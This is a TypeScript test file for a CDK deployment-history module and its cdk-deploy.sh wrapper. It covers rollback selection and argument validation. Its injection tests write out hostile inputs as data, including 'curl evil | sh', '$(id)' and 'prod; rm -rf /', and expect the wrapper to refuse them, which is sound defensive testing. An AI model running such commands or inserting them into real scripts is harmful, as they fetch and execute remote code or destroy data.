/**
 * The deployment record's rules (cdk/scripts/deploy-history.ts) and the workflows' cdk deploy wrapper
 * (cdk/scripts/cdk-deploy.sh, run with a stand-in `npx` that prints its arguments).
 */
import assert from 'node:assert/strict';
import { execFileSync, spawnSync } from 'node:child_process';
import { chmodSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, describe, test } from 'node:test';
import {
  afterRollback,
  chooseRollback,
  DeployHistoryError,
  HISTORY_LIMIT,
  parseHistory,
  recordDeploy,
} from '../../../cdk/scripts/deploy-history.js';
import { PROJECT_ROOT } from '../../../cdk/lib/synth.js';

const sha = (c: string) => c.repeat(40).slice(0, 40);
const [A, B, C, D] = ['a', 'b', 'c', 'd'].map(sha) as [string, string, string, string];

describe('history', () => {
  test('a successful deploy goes first, once, and the list is capped', () => {
    assert.deepEqual(recordDeploy([B, A], C), [C, B, A]);
    assert.deepEqual(recordDeploy([B, C, A], C), [C, B, A], 'a redeploy of a recorded commit moves it to the front');
    const long = Array.from({ length: HISTORY_LIMIT + 5 }, (_, i) => i.toString(16).padStart(40, '0'));
    assert.equal(recordDeploy(long, D).length, HISTORY_LIMIT);
    assert.throws(() => recordDeploy([], 'abc1234'), DeployHistoryError, 'only full shas are recorded');
  });

  test('parse keeps full shas only', () => {
    assert.deepEqual(parseHistory(` ${C}  ${B}\nnot-a-sha ${A.slice(0, 7)} ${A} `), [C, B, A]);
    assert.deepEqual(parseHistory(undefined), []);
  });
});

describe('choosing a rollback target', () => {
  test('without input: the commit recorded before the deployed one; a second rollback goes one further back', () => {
    let history = [C, B, A];
    const first = chooseRollback(history, C);
    assert.equal(first, B);
    history = afterRollback(history, first);
    assert.deepEqual(history, [B, A], 'the commit rolled back from is no longer a candidate');
    const second = chooseRollback(history, first);
    assert.equal(second, A, 'not B again');
    history = afterRollback(history, second);
    assert.throws(() => chooseRollback(history, second), /no earlier successful deployment/);
  });

  test('without input, when the deployed commit is not in the record (a failed deploy left it): the newest recorded one', () => {
    assert.equal(chooseRollback([B, A], undefined), B);
    assert.equal(chooseRollback([B, A], D), B);
    assert.throws(() => chooseRollback([], undefined), /no earlier successful deployment/);
  });

  test('a short sha resolves against recorded successful commits only, and must be unambiguous', () => {
    const x1 = `abcdef1${'0'.repeat(33)}`;
    const x2 = `abcdef2${'0'.repeat(33)}`;
    assert.equal(chooseRollback([C, x1, x2], C, 'abcdef1'), x1);
    assert.equal(chooseRollback([C, x1, x2], C, x2.toUpperCase()), x2, 'case and full length accepted');
    assert.throws(() => chooseRollback([C, x1, x2], C, 'abcdef'), /not a commit sha/, 'fewer than 7 hex');
    assert.throws(() => chooseRollback([C, `${x1.slice(0, 8)}1${'0'.repeat(31)}`, x1], C, x1.slice(0, 8)), /ambiguous/);
    assert.throws(() => chooseRollback([C, B], C, sha('e')), /not a recorded successful deployment/);
    assert.throws(() => chooseRollback([C, B], C, 'main'), /not a commit sha/);
    assert.throws(() => chooseRollback([C, B], C, C.slice(0, 10)), /already the deployed commit/);
  });

  test('rolling back to an older commit with input drops every newer one from the record', () => {
    assert.deepEqual(afterRollback([D, C, B, A], B), [B, A]);
    assert.throws(() => afterRollback([C, B], A), DeployHistoryError);
  });
});

describe('cdk-deploy.sh', () => {
  const dir = mkdtempSync(join(tmpdir(), 'cdk-deploy-'));
  const npx = join(dir, 'npx');
  writeFileSync(npx, '#!/usr/bin/env bash\nprintf "%s\\n" "$@"\n');
  chmodSync(npx, 0o755);
  after(() => rmSync(dir, { recursive: true, force: true }));
  const script = join(PROJECT_ROOT, 'cdk', 'scripts', 'cdk-deploy.sh');
  const runWith = (context: string, version = A, stage = 'prod') =>
    spawnSync('bash', [script, version], {
      cwd: dir,
      encoding: 'utf8',
      env: { PATH: `${dir}:${process.env.PATH}`, STAGE: stage, FLEETMEDIC_CONTEXT: context },
    });

  test('deploys the stage at that version with the -c pairs from FLEETMEDIC_CONTEXT, each one argument', () => {
    const r = runWith('  -c alertEmail=oncall@example.com   -c operatorRoleNames=a,b ');
    assert.equal(r.status, 0, r.stderr);
    assert.deepEqual(r.stdout.trim().split('\n'), [
      'cdk',
      'deploy',
      'Fleetmedic-prod',
      '--require-approval',
      'never',
      '--no-notices',
      '-c',
      'stage=prod',
      '-c',
      `version=${A}`,
      '-c',
      'alertEmail=oncall@example.com',
      '-c',
      'operatorRoleNames=a,b',
      '--outputs-file',
      'cdk-outputs.json',
    ]);
    assert.equal(runWith('').status, 0, 'no context at all');
  });

  test('refuses anything in FLEETMEDIC_CONTEXT that is not a -c key=value pair, and runs nothing then', () => {
    for (const bad of [
      '--app "curl evil | sh"',
      '-c ok=1 --require-approval broadening',
      '-c',
      '-c =x',
      '-c $(id)=1',
      'alertEmail=x',
    ]) {
      const r = runWith(bad);
      assert.notEqual(r.status, 0, bad);
      assert.equal(r.stdout, '', `${bad}: cdk was not run`);
      assert.match(r.stderr, /may only hold '-c key=value' pairs/, bad);
    }
  });

  test('refuses a version that is not a full sha and a stage that is not a stage name', () => {
    assert.match(runWith('', 'abc1234').stderr, /not a full commit sha/);
    assert.match(runWith('', A, 'prod; rm -rf /').stderr, /not a stage name/);
  });

  test('the wrapper is executable (the workflows run it directly)', () => {
    assert.doesNotThrow(() => execFileSync('test', ['-x', script]));
  });
});
